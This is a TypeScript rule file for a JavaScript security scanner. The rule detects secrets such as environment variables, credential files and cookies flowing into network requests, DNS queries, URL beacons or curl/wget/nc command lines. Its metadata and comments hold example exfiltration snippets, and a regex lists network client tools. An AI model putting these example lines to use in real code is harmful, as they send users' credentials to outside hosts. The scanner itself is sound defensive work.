import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { hasStrongSecret } from '../taint.js';
import { flowEvidence, onSinks, recordModuleFlows } from './flow-common.js';
import { functionSinkVisitors } from './function-sinks.js';
import { js, preview } from './helpers.js';

const SECRET_KINDS = new Set(['env', 'secret', 'browser-data']);
/** A network client started as a process: the command line's arguments leave the machine. */
const NETWORK_TOOL =
  /(?:^|[\s;&|(`'"/\\])(?:curl|wget|nc|ncat|netcat|socat|telnet|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)(?:\.exe)?(?=$|[\s;&|)`'"])/i;

/** Data flow: secrets (env, credential files, token commands, browser form data) reach the network. */
export const secretExfiltration: JsRule = {
  meta: {
    ...js,
    id: 'JS-010',
    name: 'secret-exfiltration-flow',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    description:
      'Data derived from secrets (process.env, credential files such as ~/.npmrc or ~/.ssh, token commands, browser cookies and form fields, cloud-instance credentials from the metadata service, the bodies and headers a fetch/XMLHttpRequest/WebSocket hook sees) flows into a network request, DNS query or socket, or into the command line of a network client it starts (curl, wget, nc).',
    rationale:
      'Stealers read credentials and send them out; Beagle follows the value from where it is read, through variables, objects, JSON.stringify, encodings, template strings and local helper functions, to the request that carries it — also into sink wrappers: a function (in the same file or exported by another package module) whose parameter reaches the request, reported at the call with both files in the flow. A library that reads a single config variable does not send it anywhere.',
    falsePositives:
      "SDK clients that send their own API key (read from a named env var) to their own service in an Authorization header; HTTP proxies that forward form data by design; session-replay tools that record request bodies and upload them directly from the hook. Cloud credentials sent to the metadata service itself, to the providers' API domains or to an address built at run time (SDK endpoints) are not reported; a hook passing requests on to the function it replaced is not a flow.",
    example:
      "const data = JSON.stringify(process.env);\nhttps.request({ hostname: 'x.invalid', method: 'POST' }).end(data)",
    references: [
      'https://attack.mitre.org/techniques/T1041/',
      'https://attack.mitre.org/techniques/T1552/001/',
    ],
  },
  create(ctx) {
    const sinks = onSinks(
      ctx,
      ['env', 'secret', 'browser-data'],
      ['network', 'dns'],
      (node, sink, sources) => {
        // Whole env / forms, credential files and token commands are strong; one named variable is weaker.
        const strong = hasStrongSecret(sources);
        ctx.facts.capabilities.add('secret-exfiltration');
        ctx.report({
          node,
          message: `Sends ${sources.map((s) => s.what).join(', ')} out through ${sink.callee}${sink.kind === 'dns' ? ' (encoded in DNS queries)' : ''}.`,
          // A single named variable (an SDK's own API key) going to a request is much weaker
          // than the whole environment, a credential file or a form.
          severity: strong ? 'critical' : 'high',
          confidence: strong ? 'high' : 'medium',
          evidence: flowEvidence(ctx, node, sink, sources),
        });
      },
    );
    // `exec(`curl -d '${JSON.stringify(process.env)}' https://…`)`: a process that is a network
    // client carries its arguments out as surely as a request does.
    let viaCommand = false;
    const commandExfil = (node: Node) => {
      if (viaCommand) return;
      const sink = ctx.taint.sinkOf(node);
      if (sink?.kind !== 'exec') return;
      // the command line only: `{ env: process.env }` in the options is the child's environment
      const [program, argv] = (node.arguments ?? []) as Node[];
      const line = [program, /\.exec(Sync)?$/.test(sink.callee) ? undefined : argv].filter(
        (a): a is Node => !!a && a.type !== 'ObjectExpression',
      );
      const sources = line.flatMap((a) => ctx.taint.taintOf(a)).filter((t) => SECRET_KINDS.has(t.kind));
      if (sources.length === 0) return;
      const command = ctx.taint.pathString(program);
      if (!command || !NETWORK_TOOL.test(command)) return;
      viaCommand = true;
      const strong = hasStrongSecret(sources);
      ctx.facts.capabilities.add('secret-exfiltration');
      ctx.report({
        node,
        message: `Sends ${sources.map((t) => t.what).join(', ')} out through ${sink.callee} running a network client: \`${preview(command, 120)}\`.`,
        severity: strong ? 'critical' : 'high',
        confidence: strong ? 'high' : 'medium',
        evidence: flowEvidence(ctx, node, { ...sink, kind: 'network' }, sources),
      });
    };
    const pending = recordModuleFlows(ctx);
    // sink wrappers (`(d) => https.request(o).end(d)`) called with tagged input, here or across modules
    const wrappers = functionSinkVisitors(ctx);
    let beacon = false;
    return {
      ...wrappers,
      // `new Image().src = u + document.cookie`, `location.href = u + data`: a GET beacon without a call.
      AssignmentExpression(node) {
        wrappers.AssignmentExpression(node);
        if (beacon || node.left?.type !== 'MemberExpression') return;
        const prop = node.left.computed ? ctx.evaluateString(node.left.property) : node.left.property?.name;
        const target = ctx.qualify(node.left);
        if (prop !== 'src' && prop !== 'href' && prop !== 'action' && target !== 'location') return;
        const sources = ctx.taint
          .taintOf(node.right)
          .filter((t) => ['env', 'secret', 'browser-data'].includes(t.kind));
        if (sources.length === 0) return;
        beacon = true;
        const strong = hasStrongSecret(sources);
        ctx.facts.capabilities.add('secret-exfiltration');
        ctx.report({
          node,
          message: `Sends ${sources.map((t) => t.what).join(', ')} out by setting ${target ?? `.${prop}`} to a URL that carries it.`,
          // one named variable or storage item (a theme or locale setting in an asset URL) is weaker
          severity: strong ? 'critical' : 'high',
          confidence: strong ? 'high' : 'medium',
          evidence: {
            flow: [
              ...sources.map((t) => ({ step: 'source', kind: t.kind, what: t.what, line: t.line })),
              { step: 'sink', kind: 'network', what: `.${prop ?? 'location'} =`, line: ctx.where(node).line },
            ],
            sources: sources.map((t) => t.what).join(', '),
            sink: `.${prop ?? 'location'} =`,
          },
        });
      },
      CallExpression(n) {
        sinks.CallExpression(n);
        pending.CallExpression(n);
        wrappers.CallExpression(n);
        commandExfil(n);
      },
      NewExpression(n) {
        sinks.NewExpression(n);
        pending.NewExpression(n);
        wrappers.NewExpression(n);
      },
    };
  },
};
